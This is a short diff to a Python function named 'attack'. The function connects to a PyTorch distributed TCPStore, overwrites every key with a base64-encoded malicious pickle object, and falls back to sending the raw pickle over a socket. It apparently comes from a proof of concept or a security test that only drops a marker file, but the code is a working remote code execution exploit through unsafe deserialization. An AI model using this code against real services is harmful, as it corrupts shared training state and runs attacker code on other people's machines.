@@ -31,11 +31,12 @@ def attack(address: str, port: int, marker: Path) -> list[str]:
     """Do what a stranger can do to whatever listens there: if it is torch's store, replace all of its values, which torch elastic
     and others unpickle; else send it such a value. Returns the keys that were replaced."""
     evil = pickle.dumps(Evil(marker))
+    text = base64.b64encode(evil).decode()
     with contextlib.suppress(RuntimeError, ValueError):
         store = dist.TCPStore(address, port, is_master=False, wait_for_workers=False, timeout=_PATIENCE)
         keys = list(store.list_keys())
         for key in keys:
-            store.set(key, base64.b64encode(evil))
+            store.set(key, text)
         return keys
     with contextlib.suppress(OSError), socket.create_connection((address, port), timeout=_PATIENCE.total_seconds()) as stranger:
         stranger.sendall(len(evil).to_bytes(8, "little") + evil)
